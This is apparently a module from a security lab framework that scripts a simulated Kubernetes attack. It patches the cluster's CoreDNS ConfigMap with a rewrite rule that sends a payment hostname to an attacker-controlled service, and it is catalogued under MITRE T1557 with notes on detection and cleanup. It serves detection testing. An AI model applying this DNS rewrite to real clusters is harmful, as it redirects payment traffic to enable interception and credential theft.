"""Attack: cluster DNS redirected.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths, session

COREFILE = ".:53 {\n    errors\n    health\n    kubernetes cluster.local\n    forward . /etc/resolv.conf\n}\n"
"""Configuration of a cluster's DNS server where there is none."""

CARD = base.Card(
    id="coredns-edit",
    title="Cluster DNS redirected",
    technique=base.Technique(id="T1557", name="Adversary-in-the-Middle", tactic="Credential Access"),
    use_case=vocabulary.UseCase.IMPACT,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "Adds a rewrite to the configuration of the cluster's DNS server so that a payment host resolves to the "
        "attacker."
    ),
    seen_by="A change of the DNS server's config map by somebody who never touched it.",
    cleans_up="The config map gets its old content back, or goes if it was made for the attack.",
    victim=base.Part.ADMIN,
    reach=base.Reach.CLUSTER,
    catalogues=("Microsoft: CoreDNS poisoning",),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.ADMIN)
    thief = ctx.act_as(victim)
    maps = paths.core("configmaps", "kube-system")
    plain = {"Corefile": COREFILE}
    ctx.ensure(maps, {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "coredns"}, "data": plain})
    before = ctx.read(f"{maps}/coredns").at("data", "Corefile")
    ctx.restore_later(f"{maps}/coredns", {"data": {"Corefile": before}})
    yield thief.get(f"{maps}/coredns")
    changed = before.replace("errors", "errors\n    rewrite name pay.example.com front.default.svc.cluster.local", 1)
    yield thief.patch(f"{maps}/coredns", {"data": {"Corefile": changed}}, content_type=session.MERGE_PATCH)


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
